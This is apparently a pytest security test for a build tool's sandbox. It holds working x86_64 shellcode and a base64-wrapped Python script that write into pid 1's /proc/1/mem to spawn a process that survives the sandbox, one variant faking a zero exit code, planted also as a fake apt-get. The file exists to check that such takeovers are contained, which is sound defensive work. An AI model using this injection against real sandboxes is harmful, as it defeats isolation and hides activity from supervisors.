"""A step that has taken over its sandbox's pid 1 outlives neither Contractor nor its own end.

A step may write the memory of its pid 1 (the same user owns both). There it has a second thread start a program: a
thread has no death signal, and the program gets the whole process, so that nothing ends it with its parent any more.
"""

from __future__ import annotations

import base64
import json
import os
import platform
import shutil
import signal
import subprocess
import time

import pytest

from conftest import Account, kill_left, processes

pytestmark = pytest.mark.skipif(platform.machine() != "x86_64", reason="the attack is made of x86_64 instructions")

# Assembled from: clone(VM|FS|FILES|SIGHAND|THREAD, rsp - 4096); the parent: pause() for ever;
# the thread: execve("/bin/sleep", {"/bin/sleep", "31536"}, NULL)
CODE = (
    "b838000000bf000f0100488db42400f0ffff31d24531d24531c00f0585c07409b8220000000f05ebf731d252488d051f00000050488d3d0c"
    "000000574889e6b83b0000000f05f42f62696e2f736c65657000333135333600"
)
ATTACK = f"""import os, time
where = int(open("/proc/1/syscall").read().split()[-1], 16)  # behind the wait4 that pid 1 is in
with open("/proc/1/mem", "r+b", buffering=0) as memory:
    memory.seek(where)
    memory.write(bytes.fromhex("{CODE}"))
if os.fork() == 0:
    if os.fork() == 0:
        time.sleep(0.2)
        os._exit(0)  # an orphan's end wakes pid 1
    os._exit(0)
os.wait()
time.sleep(600)
"""
# The same, but the thread first writes an exit code of 0 into bwrap's descriptor for it (some number below 16), and
# executes {"/bin/bash", "/workspace/late.sh"}: to bwrap and to whoever waits for it the step has ended.
LATE = (
    "b838000000bf000f0100488db42400f0ffff31d24531d24531c00f0585c07409b8220000000f05ebf76a01bb0f00000089df4889e6ba0800"
    "0000b8010000000f05ffcb83fb0277e831d252488d051e00000050488d3d0c000000574889e6b83b0000000f05f42f62696e2f6261736800"
    "2f776f726b73706163652f6c6174652e736800"
)
STEP = f"exec python3 -c 'import base64; exec(base64.b64decode(\"{base64.b64encode(ATTACK.encode()).decode()}\"))'\n"


@pytest.fixture
def spec(account: Account, request: pytest.FixtureRequest) -> str:
    """A specification whose step attacks as a shell step, or as a package's script would: by apt, as root."""
    if request.param == "shell":
        return account.spec(STEP, name="outlive")
    tree = account.home / "tree-with-apt"
    shutil.copytree(account.home.parent / "tree", tree, symlinks=True)
    (tree / "usr/sbin").mkdir()
    program = tree / "usr/bin/apt-get"
    program.write_text("#!/bin/sh\n" + STEP)
    program.chmod(0o755)
    steps = [{"create-artifact": {"name": "tree"}}]
    (account.home / "tree-with-apt.yaml").write_text(
        json.dumps({"contractor": 1, "name": "tree-with-apt", "source": {"path": tree.name}, "steps": steps})
    )
    done = account.run("build", "tree-with-apt.yaml", "--plain", "--events", "-")
    events = [json.loads(line) for line in done.stdout.splitlines()]
    (artifact,) = (event["artifact"]["digest"] for event in events if event["event"] == "artifact-stored")
    path = account.home / "outlive-apt.yaml"
    body = {"contractor": 1, "name": "outlive-apt", "steps": [{"create-systree": {"artifact": artifact}}]}
    body["steps"] += [{"apt": ["any"]}]
    path.write_text(json.dumps(body))
    return str(path)


def test_taken_over_sandbox_ends_with_its_step(account: Account) -> None:
    attack = ATTACK.partition("if os.fork()")[0].replace(CODE, LATE)
    body = {
        "contractor": 1,
        "name": "late",
        "steps": [
            {"create-systree": {"artifact": account.tree}},
            {"shell": f"echo 'while :; do echo late >> /workspace/late; done' > late.sh\npython3 -c '{attack}'\n"},
            {
                "shell": "touch late; cat late > before; sleep 0.5"
            },  # it may have written before it was known to have ended
            {"shell": '[ "$(cat late)" = "$(cat before)" ]'},
        ],
    }
    path = account.home / "late.yaml"
    path.write_text(json.dumps(body))
    done = account.run("build", str(path), "--fresh", "--plain")
    assert done.returncode == 0, done.stderr.decode()
    assert not processes("late.sh")


@pytest.mark.parametrize("spec", ["shell", "apt"], indirect=True)
@pytest.mark.parametrize("whose", ["contractor", "supervisor"])
def test_taken_over_sandbox_ends(account: Account, spec: str, whose: str) -> None:
    running = account.start("build", spec, "--fresh", "--plain")
    try:
        _wait_for(lambda: _sleepers() or running.poll() is not None)
        assert running.poll() is None, account.run("log").stdout
        pid = running.pid if whose == "contractor" else _child(running.pid)
        os.kill(pid, signal.SIGKILL)
        running.communicate(timeout=20)
        _wait_for(lambda: not _sleepers())
    finally:
        for left in _sleepers():
            os.kill(left, signal.SIGKILL)
        kill_left(account)
        subprocess.run(["rm", "-rf", account.home / "tree-with-apt"], check=True)
        for name in account.leftovers():
            os.utime(account.store / "work" / name, (0, 0))
        assert account.run("gc").returncode == 0


def _sleepers() -> list[int]:
    """The sandboxes' pid 1 that are now `sleep`."""
    found = []
    for pid in processes("/bin/sleep\x0031536"):
        with open(f"/proc/{pid}/status", encoding="ascii") as file:
            status = file.read()
        if "NSpid" in status and status.partition("NSpid:")[2].split("\n")[0].split()[-1] == "1":
            found.append(pid)
    return found


def _child(pid: int) -> int:
    with open(f"/proc/{pid}/task/{pid}/children", encoding="ascii") as file:
        return int(file.read().split()[0])


def _wait_for(what: object, seconds: float = 15.0) -> None:
    end = time.monotonic() + seconds
    while not what():  # type: ignore[operator]
        assert time.monotonic() < end, "did not happen in time"
        time.sleep(0.02)
